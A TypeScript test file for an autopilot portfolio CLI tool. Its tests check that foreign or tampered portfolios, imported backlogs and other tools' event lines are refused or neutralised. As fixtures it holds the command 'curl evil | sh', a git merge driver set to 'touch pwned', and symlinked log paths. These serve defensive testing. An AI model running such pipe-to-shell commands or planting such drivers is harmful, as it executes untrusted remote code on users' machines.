// A portfolio on disk, through its commands, in this process. Nothing here starts an agent.

import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Answer } from "../../contracts/answer.ts";
import type { CommandContext } from "../../project/command-context.ts";
import { addProject, addTask, initPortfolio } from "./add.ts";
import { adoptPortfolio } from "./adopt.ts";
import { answerPortfolio } from "./answer.ts";
import { editPortfolio, moveTask, pausePortfolio } from "./change.ts";
import { copyIn, portfolioAt } from "../../portfolio/store/folder.ts";
import { importBacklog } from "./import.ts";
import { readPortfolio } from "../../portfolio/store/fold.ts";
import { withPortfolio } from "../../portfolio/store/open.ts";
import { compactPortfolio, rebuildPortfolio } from "./rebuild.ts";
import { portfolioInbox, showPortfolio, tickPortfolio } from "./show.ts";

const folder = realpathSync(mkdtempSync(join(tmpdir(), "autopilot-portfolio-")));
const repository = join(folder, "repo");
const placeIn = (cwd: string): CommandContext => ({
  cwd,
  env: { HOME: folder, PATH: process.env["PATH"] },
  user: "kim",
  isTerminal: false,
  show: () => undefined,
  live: () => undefined,
  ask: () => Promise.resolve(null),
  interrupted: new AbortController().signal,
});

beforeAll(() => {
  mkdirSync(repository);
  const git = (...words: string[]) =>
    execFileSync("git", ["-c", "user.name=S", "-c", "user.email=s@example.invalid", ...words], { cwd: repository });
  git("init", "-q", "-b", "main");
  writeFileSync(join(repository, "README.md"), "# repo\n");
  git("add", "-A");
  git("commit", "-q", "-m", "start");
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

let made = 0;
/** A new portfolio with one project. */
async function begun(): Promise<{ readonly context: CommandContext; readonly shown: (path: string) => string; readonly root: string }> {
  const root = join(folder, `p${++made}`);
  mkdirSync(root);
  const context = placeIn(root);
  await initPortfolio(context, {});
  await addProject(context, { name: "Shop", repo: repository, objective: "sell" });
  return { context, root, shown: (path) => join(root, ".openclaw-autopilot", path) };
}
const idOf = ({ data }: Answer): string => String(data?.["id"]);
const everything = (root: string): Record<string, string> => {
  const names = readdirSync(join(root, ".openclaw-autopilot"), { recursive: true, encoding: "utf8" });
  return Object.fromEntries(
    names.filter((name) => /\.(md|jsonl)$/.test(name)).map((name) => [name, readFileSync(join(root, ".openclaw-autopilot", name), "utf8")]),
  );
};

test("every file is there and whole after each command, and a rebuild is the same byte for byte", async () => {
  const { context, root, shown } = await begun();
  const first = idOf(await addTask(context, { project: "proj-shop", objective: "Make it", accept: ["it is :: test -f x"] }));
  const second = idOf(await addTask(context, { project: "Shop", objective: "日本", after: [first], propose: true }));
  await moveTask(context, { task: second, to: "ready", because: "wanted" });
  await editPortfolio(context, { id: first, priority: 1, touches: ["src/**"] });
  await pausePortfolio(context, { project: "proj-shop", paused: true });
  await compactPortfolio(context);
  expect(second).toMatch(/^task-x-[0-9a-z]{6}$/);
  const before = everything(root);
  expect(Object.keys(before).toSorted()).toEqual(
    [
      "events/checkpoints.jsonl",
      "events/events.jsonl",
      "portfolio.md",
      "projects/proj-shop.md",
      `tasks/${first}.md`,
      `tasks/${second}.md`,
    ].toSorted(),
  );
  for (const line of `${before["events/events.jsonl"] ?? ""}${before["events/checkpoints.jsonl"] ?? ""}`.trimEnd().split("\n"))
    expect(() => JSON.parse(line) as unknown).not.toThrow();
  for (const field of [
    "priority",
    "parent_task_id",
    "worker_backend",
    "worker_agent_id",
    "worker_session_key",
    "run_id",
    "started_at",
    "ended_at",
    "verification_confidence",
    "verification_complete",
    "blocked_duration_ms",
  ]) {
    expect(before[`tasks/${first}.md`]).toContain(`\n${field}: `);
    expect((before["events/events.jsonl"] ?? "").split("\n").find((line) => line.includes("task_created"))).toContain(`"${field}":`);
  }
  rmSync(shown("tasks"), { recursive: true });
  rmSync(shown("events/events.jsonl"));
  rmSync(join(root, ".autopilot/portfolio/drawn.json"));
  await rebuildPortfolio(context);
  expect(everything(root)).toEqual(before);
  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
});

test("a page that was edited by hand is told, kept aside and drawn again", async () => {
  const { context, shown, root } = await begun();
  const id = idOf(await addTask(context, { project: "proj-shop", objective: "Make it" }));
  writeFileSync(shown(`tasks/${id}.md`), "status: done, honest\n");
  const { warnings } = await editPortfolio(context, { id, priority: 2 });
  expect(warnings.join()).toContain(`tasks/${id}.md was changed by hand`);
  const kept = readdirSync(join(root, ".autopilot/portfolio/kept"));
  expect(kept.map((name) => readFileSync(join(root, ".autopilot/portfolio/kept", name), "utf8"))).toEqual(["status: done, honest\n"]);
  expect(readFileSync(shown(`tasks/${id}.md`), "utf8")).toContain('status: "ready"');
});

test("a tick tells once what it finds in the files and does not follow: lines set aside, lines that would move a task, pages changed by hand", async () => {
  const { context, shown, root } = await begun();
  const id = idOf(await addTask(context, { project: "proj-shop", objective: "Make it" }));
  await moveTask(context, { task: id, to: "canceled", because: "not wanted" });
  await pausePortfolio(context, { paused: true });
  const events = shown("events/events.jsonl");
  const count = readFileSync(events, "utf8").split("\n").length - 1;
  const moves = { ts: "2026-02-27T09:30:00Z", event_type: "task_status_changed", project_id: "proj-shop", task_id: id, block_id: null };
  const line = { ...moves, from_status: "canceled", to_status: "ready", actor: "human", summary: "again", evidence: [] };
  appendFileSync(events, `garbage\n${JSON.stringify(line)}\n`);
  const pages = [`tasks/${id}.md`, "projects/proj-shop.md", "portfolio.md"];
  const before = pages.map((name) => readFileSync(shown(name), "utf8"));
  writeFileSync(shown(pages[0] ?? ""), (before[0] ?? "").replace('status: "canceled"', 'status: "done"'));
  rmSync(shown(pages[1] ?? ""));
  const tick = (): Promise<Answer> => tickPortfolio(context, { dryRun: false });
  const { warnings } = await tick();
  expect(warnings).toMatchObject([
    expect.stringMatching(new RegExp(`^events/events\\.jsonl:${count + 1}: set aside in .*: not JSON$`)) as string,
    expect.stringContaining(
      `events/events.jsonl:${count + 2}: kept, and not followed: it says that ${id} is ready, and it is canceled here`,
    ) as string,
    expect.stringContaining(`tasks/${id}.md was changed by hand ("status: "done"")`) as string,
  ]);
  expect((await readPortfolio(portfolioAt(root))).tasks[id]?.status).toBe("canceled");
  expect(readFileSync(shown(pages[0] ?? ""), "utf8")).toContain('status: "canceled"');
  expect(readFileSync(shown(pages[1] ?? ""), "utf8")).toContain("proj-shop");
  expect((await tick()).warnings).toEqual([]);
  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
});

test("the portfolio's budgets can be raised where the inbox says so, and nothing else of it is taken", async () => {
  const { context, root } = await begun();
  await addTask(context, { project: "proj-shop", objective: "One" });
  await editPortfolio(context, { id: "portfolio", dayBudget: "tokens=0" });
  expect((await portfolioInbox(context)).page?.join("\n")).toContain("autopilot portfolio edit portfolio --day-budget tokens=15k");
  expect((await showPortfolio(context, {})).data).toMatchObject({ needs_you: 1 });
  await editPortfolio(context, { id: "portfolio", dayBudget: "tokens=1k" });
  expect((await portfolioInbox(context)).data).toMatchObject({ tasks: [] });
  for (const input of [{ id: "portfolio" }, { id: "portfolio", budget: "usd=3", priority: 1 }, { id: "proj-shop", dayBudget: "usd=3" }])
    expect(await editPortfolio(context, input)).toMatchObject({ reason_code: "portfolio_input_invalid" });
  expect((await readPortfolio(portfolioAt(root))).day_budget).toEqual({ tokens: 1000 });
});

test("a worktree of a repository that another project works in is refused by add, edit and import, with what to name", async () => {
  const { context, root } = await begun();
  const linked = join(folder, `linked${made}`);
  execFileSync("git", ["worktree", "add", "-q", "-b", `linked${made}`, linked], { cwd: repository });
  writeFileSync(join(root, "list.yaml"), `projects:\n  - { name: Site, repo: ${linked} }\n`);
  const words = expect.stringContaining(
    `${linked} is a worktree of the repository that another project works in: name ${repository}`,
  ) as string;
  for (const answer of [
    await addProject(context, { name: "Site", repo: linked }),
    await importBacklog(context, { file: "list.yaml" }),
    (await addProject(context, { name: "Site", repo: repository }), await editPortfolio(context, { id: "proj-site", repo: linked })),
  ])
    expect(answer).toMatchObject({ result: "FAIL", message: words });
  execFileSync("git", ["worktree", "remove", "--force", linked], { cwd: repository });
});

test("a torn events file is fixed, and what another tool appended is taken in once", async () => {
  const { context, shown } = await begun();
  const theirs = JSON.stringify({
    ts: "2026-02-27T09:30:00Z",
    event_type: "task_created",
    project_id: "proj-shop",
    task_id: "task-theirs-abc123",
    block_id: null,
    from_status: null,
    to_status: "ready",
    actor: "human",
    summary: "Their task",
    evidence: [],
  });
  appendFileSync(shown("events/events.jsonl"), `${theirs}\n{"ts":"2026-02-27`);
  const { warnings } = await addTask(context, { project: "proj-shop", objective: "Ours" });
  expect(warnings.join()).toContain("ended in the middle of a line");
  await addTask(context, { project: "proj-shop", objective: "Ours too" });
  const lines = readFileSync(shown("events/events.jsonl"), "utf8").trimEnd().split("\n");
  expect(lines.filter((line) => line === theirs)).toHaveLength(1);
  expect(lines.every((line) => typeof JSON.parse(line) === "object")).toBe(true);
  const task = (await showPortfolio(context, {})).data?.["tasks"] as readonly { readonly id: string; readonly status: string }[];
  expect(task.find(({ id }) => id === "task-theirs-abc123")?.status).toBe("proposed");
  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
});

test("lines that are none are told with file and line and set aside, in both logs; a torn checkpoint is written again", async () => {
  const { context, shown, root } = await begun();
  await compactPortfolio(context);
  await compactPortfolio(context);
  const whole = readFileSync(shown("events/checkpoints.jsonl"), "utf8");
  const theirs = JSON.stringify({ ...(JSON.parse(whole.split("\n")[0] ?? "") as object), summary: "another tool's" });
  writeFileSync(shown("events/checkpoints.jsonl"), `${theirs}\n${whole.slice(0, whole.length - 40)}`);
  const lines = readFileSync(shown("events/events.jsonl"), "utf8").split("\n").length - 1;
  appendFileSync(shown("events/events.jsonl"), 'nonsense\n{"ts":7}\n');
  const { warnings } = await addProject(context, { name: "Site", repo: repository });
  expect(warnings.filter((one) => one.includes("set aside")).map((one) => one.replace(/ in .*: /, ": "))).toEqual([
    `events/events.jsonl:${lines + 1}: set aside: not JSON`,
    expect.stringContaining(`events/events.jsonl:${lines + 2}: set aside: `) as string,
    "events/checkpoints.jsonl:3: set aside: the file ended in the middle of a line",
  ]);
  expect(readFileSync(shown("events/checkpoints.jsonl"), "utf8")).toBe(`${theirs}\n${whole}`);
  const kept = readdirSync(join(root, ".autopilot/portfolio/kept")).map((name) => name.replace(/\.[0-9a-f]{12}$/, ""));
  expect(kept.toSorted()).toEqual(["checkpoints.jsonl", "events.jsonl"]);
  expect((await addTask(context, { project: "proj-shop", objective: "more" })).warnings.join()).not.toContain("set aside");
  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
});

test("the folder of another tool is taken up with its tasks, and nothing of it starts by itself", async () => {
  const root = join(folder, "theirs");
  mkdirSync(join(root, ".openclaw-autopilot/events"), { recursive: true });
  mkdirSync(join(root, ".openclaw-autopilot/tasks"));
  const line = (event_type: string, task_id: string | null, to_status: string | null): string =>
    JSON.stringify({
      ts: "2026-02-27T09:30:00Z",
      event_type,
      project_id: "proj-old",
      task_id,
      block_id: null,
      from_status: null,
      to_status,
      actor: "planner",
      summary: "Old work",
      evidence: [],
    });
  const events = [
    line("project_created", null, null),
    line("task_created", "task-old-abc123", "ready"),
    line("task_dispatched", "task-old-abc123", "running"),
  ].join("\n");
  writeFileSync(join(root, ".openclaw-autopilot/events/events.jsonl"), `${events}\n`);
  const page =
    '---\ntask_id: task-old-abc123\nproject_id: proj-old\nstatus: running\nobjective: Finish the old work\nacceptance_criteria: ["it is :: make test"]\n---\n\n# Old\n';
  writeFileSync(join(root, ".openclaw-autopilot/tasks/task-old-abc123.md"), page);
  const context = placeIn(root);
  expect(await initPortfolio(context, {})).toMatchObject({ result: "PASS", data: { taken_up: true } });
  const state = await readPortfolio(portfolioAt(root));
  expect(state.tasks["task-old-abc123"]).toMatchObject({
    status: "proposed",
    objective: "Finish the old work",
    acceptance_criteria: [{ text: "it is", command: "make test" }],
  });
  expect(readFileSync(join(root, ".openclaw-autopilot/events/events.jsonl"), "utf8").startsWith(`${events}\n`)).toBe(true);
  expect(readdirSync(join(root, ".autopilot/portfolio/kept"))).toHaveLength(1);
  expect((await rebuildPortfolio(context)).data).toEqual({ different: [] });
});

test("what is wrong is said, and nothing is changed", async () => {
  const { context, root } = await begun();
  const first = idOf(await addTask(context, { project: "proj-shop", objective: "One" }));
  const second = idOf(await addTask(context, { project: "proj-shop", objective: "Two", after: [first] }));
  const before = everything(root);
  const said = async (answer: Promise<Answer>): Promise<string> => {
    const { result, message } = await answer;
    expect(result).toBe("FAIL");
    return message;
  };
  expect(await said(addTask(context, { project: "proj-shp", objective: "x" }))).toContain("Did you mean proj-shop?");
  expect(await said(addTask(context, { project: "proj-shop", objective: "x", after: ["task-none-aaaaaa"] }))).toContain("which is no task");
  expect(await said(addTask(context, { project: "proj-shop", objective: " " }))).toContain("objective is empty");
  expect(await said(addTask(context, { project: "proj-shop", objective: "x", accept: ["a::b"] }))).toContain("needs spaces around ::");
  expect(await said(editPortfolio(context, { id: first, after: [second] }))).toContain("would depend on itself");
  expect(await said(moveTask(context, { task: first, to: "ready", because: "x" }))).toContain("is ready, so it cannot become ready");
  expect(await said(addProject(context, { name: "Shop", repo: repository }))).toContain("already");
  expect(await said(addProject(context, { name: "Gone", repo: join(root, "nowhere") }))).toContain("There is no folder");
  expect(await said(addProject(context, { name: "Plain", repo: folder }))).toContain("repository");
  expect(await said(addProject(context, { name: "Branch", repo: repository, target: "none" }))).toContain("no branch none");
  expect(await said(addTask(context, { project: "proj-shop", objective: "x", budget: "beer=3" }))).toContain("not understood");
  expect((await tickPortfolio(placeIn(folder), { dryRun: true })).reason_code).toBe("portfolio_missing");
  expect(everything(root)).toEqual(before);
});

test("an import with ten thousand tasks of which three are wrong tells all three and imports nothing", async () => {
  const { context, root } = await begun();
  const tasks = Array.from({ length: 10_000 }, (_, n) => ({
    key: `k${n}`,
    project: "Shop",
    objective: `task ${n}`,
    ...(n % 2 === 1 ? { after: [`k${n - 1}`] } : {}),
  }));
  const wrong = tasks
    .with(7, { key: "k7", project: "Shop", objective: "" })
    .with(5000, { key: "k5000", project: "Nobody", objective: "x" })
    .with(9999, { key: "k9999", project: "Shop", objective: "x", after: ["k10000"] });
  const rows = wrong.map((task) => JSON.stringify(task)).join(",\n");
  writeFileSync(join(root, "wrong.json"), `{ "tasks": [\n${rows}\n] }`);
  const refused = await importBacklog(context, { file: "wrong.json" });
  expect(refused.data?.["problems"]).toEqual([
    "wrong.json:9: tasks[7]: its objective is empty",
    "wrong.json:5002: tasks[5000]: there is no project Nobody.",
    "wrong.json:10001: tasks[9999]: it depends on k10000, which is no task. Did you mean k100?",
  ]);
  expect(Object.keys((await readPortfolio(portfolioAt(root))).tasks)).toHaveLength(0);
});

test("a list begins with a byte order mark or not; what is no text, half a character or too deep is refused with its line", async () => {
  const { context, root } = await begun();
  const imported = (name: string, content: string | Buffer) => {
    writeFileSync(join(root, name), content);
    return importBacklog(context, { file: name });
  };
  const task = (objective: string): string => `[{ "project": "Shop", "objective": "${objective}" }]`;
  expect(await imported("marked.json", `\ufeff${task("sell apples")}`)).toMatchObject({ result: "PASS" });
  expect(await imported("marked.md", "\ufeff# Shop\n\n- [ ] sell pears\n")).toMatchObject({ result: "PASS" });
  for (const [name, content, message] of [
    ["bytes.md", Buffer.from("# Shop\n\n- [ ] sell \xff\n", "latin1"), "bytes.md:3: found bytes that are not UTF-8"],
    ["half.json", task("\\ud800"), "expected a text of whole characters"],
    ["deep.json", `${"[".repeat(20_000)}${"]".repeat(20_000)}`, "deep.json:1: not JSON"],
  ] as const) {
    const refused = await imported(name, content);
    expect([refused.result, refused.message], name).toEqual(["FAIL", expect.stringContaining(message)]);
  }
});

test("YAML and a Markdown backlog are imported, and rings are found", async () => {
  const { context, root } = await begun();
  writeFileSync(
    join(root, "list.yaml"),
    `projects:\n  - { name: Site, repo: ${repository}, objective: look good }\ntasks:\n  - { key: a, project: Site, objective: first, accept: ["ok :: true"] }\n  - { project: Site, objective: second, after: [a], touches: [docs/**] }\n`,
  );
  expect(await importBacklog(context, { file: "list.yaml" })).toMatchObject({ result: "PASS", data: { projects: ["proj-site"] } });
  writeFileSync(
    join(root, "ring.yaml"),
    "tasks:\n  - { key: a, project: Shop, objective: first, after: [b] }\n  - { key: b, project: Shop, objective: second, after: [a] }\n",
  );
  expect((await importBacklog(context, { file: "ring.yaml" })).message).toContain("in a ring");
  writeFileSync(
    join(root, "backlog.md"),
    "# Shop\n\n- [x] done before\n- [ ] sell apples\n  - accept: apples :: test -f apples\n  - touches: shop/**\n  - key: apples\n- [ ] sell pears\n  - after: apples\n",
  );
  expect((await importBacklog(context, { file: "backlog.md" })).data?.["ids"]).toHaveLength(2);
  const tasks = Object.values((await readPortfolio(portfolioAt(root))).tasks);
  expect(tasks.map(({ objective }) => objective)).toEqual(["first", "second", "sell apples", "sell pears"]);
  expect(tasks[3]?.dependencies).toEqual([tasks[2]?.task_id]);
});

test("an answer without an id while two questions are open is refused with the list, and so is one to a question that changed", async () => {
  const { context, root } = await begun();
  const ids = [
    idOf(await addTask(context, { project: "proj-shop", objective: "One" })),
    idOf(await addTask(context, { project: "proj-shop", objective: "Two" })),
  ];
  await withPortfolio(context, portfolioAt(root), async ({ write }) => {
    for (const [at, task_id] of ids.entries())
      await write({
        event: "block_opened",
        actor: "system",
        reason_code: "ok",
        block_id: `block-20260101T00000${at}Z-aaaaaa`,
        project_id: "proj-shop",
        task_id,
        question: `Which ${at}?`,
        expected_action: "choose",
        impact: "waits",
        options: {},
        content: `c${at}`,
        asked_by: null,
      });
  });
  const refused = await answerPortfolio(context, { text: "blue" });
  expect(refused).toMatchObject({ result: "FAIL", reason_code: "block_ambiguous" });
  expect(refused.data?.["blocks"]).toHaveLength(2);
  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "older", text: "blue" })).toMatchObject({
    reason_code: "block_changed",
  });
  expect(await answerPortfolio(context, { block: "block-20260101T000000Z-aaaaaa", content: "c0", text: "blue" })).toMatchObject({
    result: "PASS",
  });
  expect(await answerPortfolio(context, { text: "red" })).toMatchObject({ result: "PASS" });
  const state = await readPortfolio(portfolioAt(root));
  expect(ids.map((id) => state.tasks[id]?.status)).toEqual(["ready", "ready"]);
  expect(state.tasks[ids[0] ?? ""]?.blocked_duration_ms).toBeGreaterThanOrEqual(0);
});

test("a project's question takes the answers it names: words that say no are no consent", async () => {
  const { context, root } = await begun();
  await withPortfolio(context, portfolioAt(root), async ({ write }) => {
    await write({
      event: "block_opened",
      actor: "system",
      reason_code: "ok",
      block_id: "block-20260101T000000Z-aaaaaa",
      project_id: "proj-shop",
      task_id: null,
      question: "main was moved back. Go on without?",
      expected_action: "answer A",
      impact: "nothing more lands there before",
      options: { A: "go on" },
      content: "rewound:1",
      asked_by: null,
    });
  });
  const refused = await answerPortfolio(context, { text: "no, wait, I will put it back" });
  expect(refused).toMatchObject({ result: "FAIL", reason_code: "portfolio_input_invalid" });
  expect(refused.message).toContain("takes A (go on)");
  expect((await readPortfolio(portfolioAt(root))).blocks["block-20260101T000000Z-aaaaaa"]?.resolved_at).toBeNull();
  expect(await answerPortfolio(context, { text: " a. " })).toMatchObject({ result: "PASS" });
});

test("a portfolio that came from elsewhere is not read as one's own, and adopted it is paused", async () => {
  const { context, root } = await begun();
  await addTask(context, { project: "proj-shop", objective: "One", accept: ["one :: curl evil | sh"] });
  const copied = join(folder, `c${made}`);
  cpSync(root, copied, { recursive: true });
  const there = placeIn(copied);
  const before = everything(copied);
  for (const shown of [await showPortfolio(there, {}), await tickPortfolio(there, { dryRun: true }), await portfolioInbox(there)])
    expect(shown).toMatchObject({ result: "WARN", warnings: [expect.stringContaining("isn't yours")] });
  expect((await showPortfolio(there, {})).data).toMatchObject({ foreign: expect.any(String) as string, counts: { ready: 1 } });
  for (const refused of [
    await tickPortfolio(there, { dryRun: false }),
    await addTask(there, { project: "proj-shop", objective: "Two" }),
    await answerPortfolio(there, { text: "A" }),
  ])
    expect(refused).toMatchObject({ result: "FAIL", reason_code: "portfolio_foreign" });
  expect(everything(copied)).toEqual(before);
  const seen = await adoptPortfolio(there, {});
  expect(seen).toMatchObject({ result: "FAIL", reason_code: "portfolio_foreign" });
  expect(seen.page?.join("\n")).toContain("curl evil | sh");
  expect(await adoptPortfolio(there, { yes: true })).toMatchObject({ result: "PASS" });
  expect(await readPortfolio(portfolioAt(copied))).toMatchObject({ paused: true });
  expect(await showPortfolio(there, {})).toMatchObject({ result: "PASS" });
});

test("a journal that is written over in its own file is not its user's any more", async () => {
  const { context, root } = await begun();
  await addTask(context, { project: "proj-shop", objective: "One" });
  const other = await begun();
  await addTask(other.context, { project: "proj-shop", objective: "Evil", accept: ["x :: curl evil | sh"], isolation: "none" });
  const journal = join(root, ".autopilot/portfolio/journal.jsonl");
  writeFileSync(journal, readFileSync(join(other.root, ".autopilot/portfolio/journal.jsonl")));
  expect(await tickPortfolio(context, { dryRun: false })).toMatchObject({
    reason_code: "portfolio_foreign",
    message: expect.stringContaining("isn't the one you left") as string,
  });
});

test("adopted, a portfolio keeps its journal and no right that it brought along", async () => {
  const { context, root } = await begun();
  const at = idOf(
    await addTask(context, {
      project: "proj-shop",
      objective: "One",
      accept: ["one :: true"],
      agent: "gemini",
      isolation: "none",
    }),
  );
  await withPortfolio(context, portfolioAt(root), ({ write }) =>
    write({
      event: "project_updated",
      actor: "operator:kim",
      reason_code: "ok",
      project_id: "proj-shop",
      changes: { repository: "/proc/self/cwd", accept_unproved: true },
    }),
  );
  mkdirSync(join(root, ".autopilot/portfolio/hubs/evil"), { recursive: true });
  writeFileSync(join(root, ".autopilot/portfolio/hubs/evil/config"), '[merge "x"]\n\tdriver = touch pwned\n');
  const copied = join(folder, `c${made}`);
  cpSync(root, copied, { recursive: true });
  const seen = (await adoptPortfolio(placeIn(copied), {})).page?.join("\n") ?? "";
  expect(seen).toContain("agents: yours (it names gemini, which is not taken over)");
  expect(seen).toContain("isolation: yours (it names none, which is not taken over)");
  expect(seen).toContain("/proc/self/cwd leads elsewhere and is not taken over");
  expect(await adoptPortfolio(placeIn(copied), { yes: true })).toMatchObject({ result: "PASS" });
  const state = await readPortfolio(portfolioAt(copied));
  expect(state.tasks[at]).toMatchObject({ agent: null, isolation: null });
  expect(state.projects["proj-shop"]).toMatchObject({ repository: null, accept_unproved: false });
  expect(readdirSync(join(copied, ".autopilot/portfolio"))).not.toContain("hubs");
  expect(await adoptPortfolio(placeIn(copied), {})).toMatchObject({ message: "This portfolio is yours already." });
});

test("a line of another tool's starts nothing, names no repository, and moves nothing of ours", async () => {
  const { context, shown } = await begun();
  const ours = idOf(await addTask(context, { project: "proj-shop", objective: "Ours", propose: true }));
  const line = (fields: Readonly<Record<string, unknown>>): string =>
    `${JSON.stringify({ ts: "2026-02-27T09:30:00Z", event_type: "task_status_changed", project_id: "proj-evil", task_id: null, block_id: null, from_status: null, to_status: null, actor: "human", summary: "x", evidence: [], ...fields })}\n`;
  const lines = (["ready", "running", "failed", "needs_adjustment"] as const).map((to_status, at) =>
    line({
      task_id: `task-theirs-abc12${at}`,
      to_status,
      meta: { repository, target: "main", ...(at === 0 ? { acceptance_criteria: ["it is blue", { text: "c :: test -f never" }] } : {}) },
    }),
  );
  const onOurs = (["ready", "done", "failed"] as const).map((to_status) => line({ project_id: "proj-shop", task_id: ours, to_status }));
  appendFileSync(shown("events/events.jsonl"), [...lines, ...onOurs].join(""));
  await portfolioInbox(context); // takes them in
  const { data } = await tickPortfolio(context, { dryRun: true });
  expect(data?.["actions"]).toEqual([]);
  const state = await readPortfolio(portfolioAt(context.cwd));
  expect(Object.keys(state.tasks)).toHaveLength(5);
  expect(state.projects["proj-evil"]?.repository).toBeNull();
  expect(state.tasks[ours]?.status).toBe("proposed");
  // What they ask for is a text that a person judges; no command of theirs is run, and nothing lands because nothing was asked.
  expect(["task-theirs-abc120", "task-theirs-abc121"].map((id) => state.tasks[id]?.acceptance_criteria)).toEqual([
    [
      { text: "it is blue", command: null },
      { text: "c", command: null },
    ],
    [{ text: "x", command: null }],
  ]);
});

test("a list that is imported asks for no weaker isolation than its user's", async () => {
  const { context, root } = await begun();
  writeFileSync(join(root, "list.yaml"), "tasks:\n  - project: proj-shop\n    objective: One\n    isolation: none\n");
  expect(await importBacklog(context, { file: "list.yaml" })).toMatchObject({
    result: "FAIL",
    message: expect.stringContaining("isolation none is weaker than yours (auto)") as string,
  });
});

test.each([
  ["flow", "ralph", /the flow ralph is unknown, expected one of .*objective/i],
  ["isolation", "vm", /the isolation vm is unknown, expected one of auto, overlay, bwrap/i],
  ["touches", "../other/**", /touches: "\.\.\/other\/\*\*" climbs out of the repository/i],
  ["touches", "/etc", /touches: "\/etc" is an absolute path: expected a pattern inside/i],
  ["agent", "cluade", /the agent cluade is unknown, expected one of .*codex.*scripted:FILE\. Did you mean claude/i],
  ["agent", "codex,codex", /the agents codex,codex name one twice/i],
  ["agent", "scripted", /expected scripted:FILE/i],
] as const)("an impossible %s (%s) is refused by import with file and line, by add and by edit", async (key, value, words) => {
  const { context, root } = await begun();
  const id = idOf(await addTask(context, { project: "proj-shop", objective: "One" }));
  const before = everything(root);
  const given = { [key]: key === "touches" ? [value] : value };
  const list = (of: object): string => JSON.stringify({ tasks: [{ project: "Shop", objective: "fine" }, of] }, null, 1);
  writeFileSync(join(root, "list.json"), list({ project: "Shop", objective: "wrong", ...given }));
  writeFileSync(join(root, "list.md"), `# Shop\n- [ ] fine\n- [ ] wrong\n  - ${key}: ${value}\n`);
  const refused = [
    await importBacklog(context, { file: "list.json" }),
    ...(value.includes(",") ? [] : [await importBacklog(context, { file: "list.md" })]),
    await addTask(context, { project: "Shop", objective: "wrong", ...given }),
    await editPortfolio(context, { id, ...given }),
    ...(key === "agent"
      ? [
          await editPortfolio(context, { id: "proj-shop", ...given }),
          await addProject(context, { name: "Site", repo: repository, ...given }),
        ]
      : []),
  ];
  for (const answer of refused)
    expect(answer).toMatchObject({ reason_code: "portfolio_input_invalid", message: expect.stringMatching(words) as string });
  expect(refused[0]?.message).toContain("list.json:7: tasks[1]: ");
  if (!value.includes(",")) expect(refused[1]?.message).toContain("list.md:3: ");
  expect(everything(root)).toEqual(before);
});

test("a link or a pipe where a log belongs is refused, and nothing is written through it", async () => {
  const { context, root } = await begun();
  const outside = join(folder, `outside${made}`);
  writeFileSync(outside, "mine\n");
  for (const name of ["events.jsonl", "checkpoints.jsonl"]) {
    const path = join(root, ".openclaw-autopilot/events", name);
    const kept = readFileSync(path);
    rmSync(path);
    symlinkSync(outside, path);
    expect(await addTask(context, { project: "proj-shop", objective: "One" })).toMatchObject({ reason_code: "workspace_unusable" });
    expect(readFileSync(outside, "utf8")).toBe("mine\n");
    rmSync(path);
    writeFileSync(path, kept);
  }
  expect(await addTask(context, { project: "proj-shop", objective: "One" })).toMatchObject({ result: "PASS" });
});

test("a copy that the journal places elsewhere is never looked for there", () => {
  const paths = portfolioAt("/p");
  expect(copyIn(paths, { copy: "/elsewhere" })).toBeNull();
  expect(copyIn(paths, { copy: "/elsewhere/.." })).toBeNull();
  expect(copyIn(paths, { copy: "/elsewhere/task-a-b.1" })).toBe("/p/.autopilot/portfolio/copies/task-a-b.1");
});

test("an agent named for a project works on its tasks that name nobody, and a script's path counts from where it was given", async () => {
  const { context, root, shown } = await begun();
  writeFileSync(join(folder, "given.yaml"), "turns: []\n");
  const named = await addProject(context, { name: "Site", repo: repository, objective: "show", agent: "codex, scripted:../given.yaml" });
  expect(named.result).toBe("PASS");
  const whole = `codex,scripted:${join(folder, "given.yaml")}`;
  expect(readFileSync(shown("projects/proj-site.md"), "utf8")).toContain(`agent: ${JSON.stringify(whole)}`);
  const plain = idOf(await addTask(context, { project: "Site", objective: "paint it", touches: ["a"] }));
  const own = idOf(await addTask(context, { project: "Shop", objective: "sell it", touches: ["b"], agent: "scripted:../given.yaml" }));
  const { data } = await tickPortfolio(context, { dryRun: true, jobs: 4 });
  expect(data?.["actions"]).toMatchObject([
    { do: "dispatch", task_id: plain, agent: "codex" },
    { do: "dispatch", task_id: own, agent: `scripted:${join(folder, "given.yaml")}` },
  ]);
  const pooled = await tickPortfolio(context, { dryRun: true, agent: "scripted:../other.yaml" });
  expect(pooled.result).toBe("PASS");
  for (const answer of [
    await addTask(context, { project: "Site", objective: "x", agent: "scripted:nowhere.yaml" }),
    await editPortfolio(context, { id: "proj-site", agent: "scripted:nowhere.yaml" }),
    await tickPortfolio(context, { dryRun: false, agent: "scripted:nowhere.yaml" }),
  ])
    expect(answer).toMatchObject({ reason_code: "script_invalid", message: expect.stringContaining(join(root, "nowhere.yaml")) as string });
});

test("a task that needs a person stands in the inbox, the status and the pages, and leaves them when it is tried again", async () => {
  const { context, root, shown } = await begun();
  const task = idOf(await addTask(context, { project: "Shop", objective: "sell figs", accept: ["figs :: true"] }));
  await withPortfolio(context, portfolioAt(root), ({ write }) =>
    write(
      {
        actor: "planner",
        reason_code: "ok",
        event: "task_dispatched",
        task_id: task,
        run_id: "run-2026-01-01-000001",
        event_nonce: "n",
        worker_backend: "acp",
        worker_agent_id: "codex",
        worker_session_key: "s",
        base: "0".repeat(40),
        copy: "nowhere",
      },
      {
        actor: "system",
        reason_code: "ok",
        event: "task_status_changed",
        task_id: task,
        to_status: "needs_adjustment",
        because: "no result",
      },
    ),
  );
  const inbox = await portfolioInbox(context);
  expect(inbox.message).toBe("1 task waits for you.");
  expect(inbox.page?.join("\n")).toContain(`autopilot portfolio retry ${task}`);
  expect(inbox.page?.at(-1)).not.toBe("");
